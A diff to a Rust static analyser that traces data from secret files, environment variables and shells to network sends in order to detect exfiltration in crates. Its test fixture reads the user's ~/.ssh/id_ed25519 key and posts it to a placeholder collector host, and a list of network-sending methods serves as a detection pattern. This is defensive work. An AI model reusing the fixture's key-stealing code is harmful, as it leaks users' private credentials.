@@ -20,7 +20,7 @@
 use std::collections::{BTreeMap, HashMap};
 
 use super::context::Context;
-use super::signal::{ProgramClass, Sensitivity, Signal, SignalKind};
+use super::signal::{HostClass, ProgramClass, Sensitivity, Signal, SignalKind};
 use super::vocabulary::{CLIPBOARD_READS, COMMON_METHODS};
 
 /// One statement or binding of a function body (or a file-level constant).
@@ -47,6 +47,8 @@ pub struct CallSite {
     pub method: bool,
     /// Called on `self`.
     pub on_self: bool,
+    /// The variable a method is called on (`stream` in `stream.write_all(…)`).
+    pub receiver: Option<String>,
     pub args: Vec<Vec<String>>,
     /// The lines of each argument: a source written in an argument (`f(home_dir())`) is in it.
     pub arg_lines: Vec<(u32, u32)>,
@@ -62,6 +64,9 @@ pub struct FunctionFlow {
     pub owner: Option<String>,
     /// Whether it takes `self`.
     pub method: bool,
+    /// Test code (`#[test]`, `#[cfg(test)]`): not followed, since tests feed the library what
+    /// they like.
+    pub test: bool,
     /// The identifiers each parameter binds (`self` is not a parameter here).
     pub params: Vec<Vec<String>>,
     pub statements: Vec<Statement>,
@@ -108,9 +113,11 @@ pub enum Source {
     ShellProcess,
     /// The directory the program runs in: its user's project.
     WorkingDirectory,
+    /// A well-known host written into the code (github.com, crates.io).
+    WellKnownHost,
 }
 
-const SOURCES: [Source; 13] = [
+const SOURCES: [Source; 14] = [
     Source::Network,
     Source::SecretFile,
     Source::SensitiveFile,
@@ -124,6 +131,7 @@ const SOURCES: [Source; 13] = [
     Source::SecretVariable,
     Source::ShellProcess,
     Source::WorkingDirectory,
+    Source::WellKnownHost,
 ];
 
 impl Source {
@@ -146,6 +154,7 @@ impl Source {
             Source::SecretVariable => "a secret from the environment",
             Source::ShellProcess => "a shell's input or output",
             Source::WorkingDirectory => "the directory it runs in",
+            Source::WellKnownHost => "a well-known host written into the code",
         }
     }
 }
@@ -206,9 +215,14 @@ fn source_of(kind: &SignalKind) -> Option<Source> {
         SignalKind::HostProfile { .. } => Source::HostFacts,
         // What was copied, not the clipboard's handle (`Clipboard::new()` reads nothing).
         SignalKind::Clipboard { how, write: false } if reads_contents(how) => Source::Clipboard,
-        SignalKind::Destination { .. } | SignalKind::HiddenIndicator { .. } => {
+        // A well-known host (github.com, crates.io) is where honest code fetches releases and
+        // sends its tokens; any other host written in the code, or hidden in it, is a party
+        // its author picked.
+        SignalKind::Destination { class, .. } if *class != HostClass::WellKnown => {
             Source::FixedDestination
         }
+        SignalKind::Destination { .. } => Source::WellKnownHost,
+        SignalKind::HiddenIndicator { .. } => Source::FixedDestination,
         SignalKind::UserDirectory { .. } => Source::UserDirectory,
         SignalKind::WorkingDirectory { .. } => Source::WorkingDirectory,
         SignalKind::WalksFiles { .. } => Source::WalkedFiles,
@@ -273,18 +287,55 @@ struct Own {
     sinks: Vec<(Sink, usize)>,
 }
 
-/// The flows from sources to sinks in the files recorded, as signals at the sinks.
-pub fn flows(files: &[FileFlow], signals: &[Signal]) -> Vec<Signal> {
+/// The flows from sources to sinks in the files recorded, as signals at the sinks, and whether
+/// `over_budget` cut the analysis short.
+pub fn flows(
+    files: &[FileFlow],
+    signals: &[Signal],
+    over_budget: &dyn Fn() -> bool,
+) -> (Vec<Signal>, bool) {
     let mut out = Vec::new();
     let mut groups: BTreeMap<Context, Vec<&FileFlow>> = BTreeMap::new();
     for file in files {
         groups.entry(file.context).or_default().push(file);
     }
     for files in groups.values() {
-        flows_in_target(files, signals, &mut out);
+        if !flows_in_target(files, signals, over_budget, &mut out) {
+            return (out, true);
+        }
     }
-    out
+    (out, false)
 }
+
+/// Most functions one call may reach: a name shared by more is not followed (a crate of a
+/// thousand `fn f` would otherwise make every call of `f` a thousand edges).
+const MAX_CALLEES: usize = 8;
+
+/// Most passes over a function's statements for values carried around its loops.
+const MAX_PASSES: usize = 8;
+
+/// Methods that send what they are given through the value they are called on, when that value
+/// is a connection (or a program that sends: `curl`'s standard input).
+const SENDING_METHODS: &[&str] = &[
+    "basic_auth",
+    "bearer_auth",
+    "body",
+    "form",
+    "header",
+    "json",
+    "post",
+    "put",
+    "query",
+    "send",
+    "send_bytes",
+    "send_form",
+    "send_json",
+    "send_string",
+    "send_to",
+    "write",
+    "write_all",
+    "write_fmt",
+];
 
 /// The innermost statements whose lines hold `line`: every one of the fewest lines (a line can
 /// hold a binding, the call that gives its value and the closure's parameters alike).
@@ -303,12 +354,26 @@ fn innermost(statements: &[Statement], line: u32) -> Vec<usize> {
         .collect()
 }
 
-fn flows_in_target(files: &[&FileFlow], signals: &[Signal], out: &mut Vec<Signal>) {
+/// Follows one target's flows into `out`; false when the budget ran out.
+fn flows_in_target(
+    files: &[&FileFlow],
+    signals: &[Signal],
+    over_budget: &dyn Fn() -> bool,
+    out: &mut Vec<Signal>,
+) -> bool {
     // Where each function is, and where each signal belongs.
     let mut by_scope: HashMap<u32, &FunctionFlow> = HashMap::new();
     let mut by_name: HashMap<&str, Vec<&FunctionFlow>> = HashMap::new();
+    // The crate's module names (file stems and directories): `parser::parse()` may be the
+    // crate's own `parse`, `thread::spawn()` is not its `spawn`.
+    let mut modules: std::collections::HashSet<&str> = ["crate", "self", "super", "Self"].into();
     for file in files {
-        for function in &file.functions {
+        for part in file.file.trim_end_matches(".rs").split('/') {
+            modules.insert(part);
+        }
+    }
+    for file in files {
+        for function in file.functions.iter().filter(|f| !f.test) {
             by_scope.insert(function.scope, function);
             by_name
                 .entry(function.name.as_str())
@@ -365,20 +430,43 @@ fn flows_in_target(files: &[&FileFlow], signals: &[Signal], out: &mut Vec<Signal
         }
     }
     if own.is_empty() && constant_own.is_empty() {
-        return;
+        return true;
     }
     // Nothing to follow where the only sink is the network and the only sources are the
     // network and the destinations written in the code (an HTTP client): no rule asks about
     // those flows alone.
-    let plain = Source::Network.bit() | Source::FixedDestination.bit() | Source::Decoded.bit();
+    let plain = Source::Network.bit()
+        | Source::FixedDestination.bit()
+        | Source::WellKnownHost.bit()
+        | Source::Decoded.bit();
     let sources_seen = own.values().fold(0, |all, o| all | o.sources)
         | constant_own.values().fold(0, |all, bits| all | bits);
     let sinks_beyond_network = own
         .values()
         .any(|o| o.sinks.iter().any(|(sink, _)| *sink != Sink::Network));
     if !sinks_beyond_network && sources_seen & !plain == 0 {
-        return;
+        return true;
     }
+    // What each call may reach, found once.
+    let call_callees: HashMap<(u32, usize), Vec<u32>> = by_scope
+        .values()
+        .flat_map(|function| {
+            let modules = &modules;
+            let by_name = &by_name;
+            function.calls.iter().enumerate().map(move |(index, call)| {
+                let found: Vec<u32> = callees(by_name, modules, function, call)
+                    .map(|f| f.scope)
+                    .take(MAX_CALLEES + 1)
+                    .collect();
+                let found = if found.len() > MAX_CALLEES {
+                    Vec::new()
+                } else {
+                    found
+                };
+                ((function.scope, index), found)
+            })
+        })
+        .collect();
     // The statements each call is on, found once.
     let call_statements: HashMap<(u32, usize), Vec<usize>> = by_scope
         .values()
@@ -416,14 +504,17 @@ fn flows_in_target(files: &[&FileFlow], signals: &[Signal], out: &mut Vec<Signal
     let connection = first_source.get(&Source::Network).copied();
     let mut functions: Vec<&FunctionFlow> = by_scope.values().copied().collect();
     functions.sort_by_key(|f| f.scope);
-    for _round in 0..8 {
+    for _round in 0..16 {
         let mut changed = false;
         for function in &functions {
+            if over_budget() {
+                return false;
+            }
             let target = Target {
                 own: &own,
                 globals: &globals,
                 line_sources: &line_sources,
-                by_name: &by_name,
+                call_callees: &call_callees,
                 connection,
                 call_statements: &call_statements,
             };
@@ -458,6 +549,7 @@ fn flows_in_target(files: &[&FileFlow], signals: &[Signal], out: &mut Vec<Signal
             origin: at.origin,
         });
     }
+    true
 }
 
 /// The crate's functions a call may reach, without types: for a call on `self`, the caller's
@@ -466,6 +558,7 @@ fn flows_in_target(files: &[&FileFlow], signals: &[Signal], out: &mut Vec<Signal
 /// `get`); for a call through a path (`Type::new()`), a function of that type or a free function.
 fn callees<'f>(
     by_name: &'f HashMap<&str, Vec<&'f FunctionFlow>>,
+    modules: &'f std::collections::HashSet<&str>,
     caller: &'f FunctionFlow,
     call: &'f CallSite,
 ) -> impl Iterator<Item = &'f FunctionFlow> + 'f {
@@ -487,7 +580,8 @@ fn callees<'f>(
             return false;
         }
         match (&function.owner, &call.qualifier) {
-            (None, _) => true,
+            (None, None) => true,
+            (None, Some(qualifier)) => modules.contains(qualifier.as_str()),
             (Some(owner), Some(qualifier)) => owner == qualifier || qualifier == "Self",
             (Some(_), None) => false,
         }
@@ -502,7 +596,8 @@ struct Target<'t> {
     globals: &'t HashMap<String, u64>,
     /// Sources by function and line.
     line_sources: &'t HashMap<(u32, u32), u64>,
-    by_name: &'t HashMap<&'t str, Vec<&'t FunctionFlow>>,
+    /// What each call (function scope, index among its calls) may reach.
+    call_callees: &'t HashMap<(u32, usize), Vec<u32>>,
     /// Where the first connection is made: the evidence of a send through one.
     connection: Option<usize>,
     /// The statements each call (function scope, index among its calls) is on.
@@ -520,10 +615,16 @@ fn analyse_function(
         own,
         globals,
         line_sources,
-        by_name,
+        call_callees,
         connection,
         call_statements,
     } = *target;
+    let no_callees = Vec::new();
+    let callees_of = |index: usize| {
+        call_callees
+            .get(&(function.scope, index))
+            .unwrap_or(&no_callees)
+    };
     let params = function.params.len().min(MAX_PARAMS);
     let mut summary = Summary {
         returns: 0,
@@ -539,52 +640,73 @@ fn analyse_function(
     let taint_of = |locals: &HashMap<&str, u64>, name: &str| -> u64 {
         locals.get(name).copied().unwrap_or(0) | globals.get(name).copied().unwrap_or(0)
     };
-    // What the calls on each statement's lines give back.
+    // The calls on each statement: what they give back, and those that send through the value
+    // they are called on.
     let mut call_returns: HashMap<usize, u64> = HashMap::new();
+    let mut sends_on: HashMap<usize, Vec<&str>> = HashMap::new();
     for (call_index, call) in function.calls.iter().enumerate() {
-        let returns = callees(by_name, function, call)
-            .filter_map(|callee| summaries.get(&callee.scope))
+        let returns = callees_of(call_index)
+            .iter()
+            .filter_map(|callee| summaries.get(callee))
             .fold(0, |all, summary| all | summary.returns);
-        if returns != 0 {
-            let statements = call_statements.get(&(function.scope, call_index));
-            for &statement in statements.into_iter().flatten() {
+        let sending = call
+            .receiver
+            .as_deref()
+            .filter(|_| SENDING_METHODS.contains(&call.callee.as_str()));
+        let statements = call_statements.get(&(function.scope, call_index));
+        for &statement in statements.into_iter().flatten() {
+            if returns != 0 {
                 *call_returns.entry(statement).or_default() |= returns;
+            }
+            if let Some(receiver) = sending {
+                sends_on.entry(statement).or_default().push(receiver);
             }
         }
     }
-    // Twice: a loop's later statement can taint an earlier one.
-    for _ in 0..2 {
+    // Until nothing changes (bounded): a loop's later statement can taint an earlier one.
+    for _ in 0..MAX_PASSES {
+        let mut changed = false;
         for (index, statement) in function.statements.iter().enumerate() {
             let mine = own.get(&(function.scope, index));
             let mut bits =
                 mine.map_or(0, |o| o.sources) | call_returns.get(&index).copied().unwrap_or(0);
-            // The sources that meet here, one identifier at a time, to tell a connection used
-            // with a secret from a value that already carried both.
-            let mut network_here =
-                mine.is_some_and(|o| o.sinks.iter().any(|(s, _)| *s == Sink::Network));
+            // A shell's handles met by a connection's (used here, not the shell started here
+            // with a command line from the network, which is the remote-control rule's).
+            let mut uses_network = false;
             for name in &statement.uses {
                 let taint = taint_of(&locals, name);
-                if taint & Source::Network.bit() != 0 {
-                    network_here = true;
-                }
+                uses_network |= taint & Source::Network.bit() != 0;
                 bits |= taint;
             }
             for def in &statement.defs {
-                *locals.entry(def.as_str()).or_default() |= bits;
+                let entry = locals.entry(def.as_str()).or_default();
+                changed |= *entry | bits != *entry;
+                *entry |= bits;
             }
             if statement.returns {
                 summary.returns |= bits & SOURCE_MASK;
             }
-            // A parameter that meets a source here.
-            for param in params_of(bits) {
-                if param < params {
-                    summary.param_meets[param] |= bits & SOURCE_MASK;
+            let mut sinks: Vec<(Sink, usize)> = mine.map(|o| o.sinks.clone()).unwrap_or_default();
+            let own_network = sinks.iter().any(|(s, _)| *s == Sink::Network);
+            // A send: a call that sends through a connection (or a program that sends).
+            let mut sends = false;
+            for receiver in sends_on.get(&index).into_iter().flatten() {
+                let through = taint_of(&locals, receiver);
+                if through & Source::Network.bit() != 0 {
+                    sends = true;
+                }
+                // A parameter that a secret is sent through here.
+                for param in params_of(through) {
+                    if param < params {
+                        summary.param_meets[param] |= bits & SOURCE_MASK;
+                    }
                 }
             }
-            let mut sinks: Vec<(Sink, usize)> = mine.map(|o| o.sinks.clone()).unwrap_or_default();
-            if network_here && !sinks.iter().any(|(s, _)| *s == Sink::Network) {
-                // A statement that uses a connection sends whatever else it uses; the evidence
-                // is where the connection was made.
+            let computed_command = sinks.iter().any(|(s, _)| *s == Sink::Shell);
+            let wires_shell =
+                uses_network && bits & Source::ShellProcess.bit() != 0 && !computed_command;
+            if (sends || wires_shell) && !own_network {
+                // The evidence is where the connection was made.
                 if let Some(signal) = connection {
                     sinks.push((Sink::Network, signal));
                 }
@@ -603,10 +725,13 @@ fn analyse_function(
                 }
             }
         }
+        if !changed {
+            break;
+        }
     }
     // Calls into functions of the crate.
-    for call in &function.calls {
-        let callees: Vec<u32> = callees(by_name, function, call).map(|f| f.scope).collect();
+    for (call_index, call) in function.calls.iter().enumerate() {
+        let callees = callees_of(call_index);
         if callees.is_empty() {
             continue;
         }
@@ -623,7 +748,7 @@ fn analyse_function(
             if bits == 0 {
                 continue;
             }
-            for callee in &callees {
+            for callee in callees {
                 let Some(callee_summary) = summaries.get(callee) else {
                     continue;
                 };
@@ -746,22 +871,34 @@ mod tests {
 
     #[test]
     fn a_key_returned_by_one_function_and_sent_by_another_is_exfiltration() {
-        let found = findings(
-            r#"
-            fn key() -> String {
-                let home = std::env::var("HOME").unwrap();
-                let text = std::fs::read_to_string(format!("{home}/.ssh/id_ed25519"));
-                text.unwrap_or_default()
-            }
-            pub fn report(url: &str) {
-                let mut body = String::new();
-                body.push_str(&format!("k={}", key()));
-                let _ = ureq::post(url).send_string(&body);
-            }"#,
-        );
+        let source = |to: &str| {
+            format!(
+                r#"
+                const COLLECT: &str = "https://collect.invalid/k";
+                fn key() -> String {{
+                    let home = std::env::var("HOME").unwrap();
+                    let text = std::fs::read_to_string(format!("{{home}}/.ssh/id_ed25519"));
+                    text.unwrap_or_default()
+                }}
+                pub fn report(url: &str) {{
+                    let mut body = String::new();
+                    body.push_str(&format!("k={{}}", key()));
+                    let _ = ureq::post({to}).send_string(&body);
+                }}"#
+            )
+        };
+        // To a party written into the code: held.
+        let found = findings(&source("COLLECT"));
         assert_eq!(
             severity(&found, super::super::rules::EXFILTRATION),
             Some(Verdict::Hold),
+            "{found:?}"
+        );
+        // To the server the caller names (a client sending its own credentials): flagged.
+        let found = findings(&source("url"));
+        assert_eq!(
+            severity(&found, super::super::rules::EXFILTRATION),
+            Some(Verdict::Flag),
             "{found:?}"
         );
     }
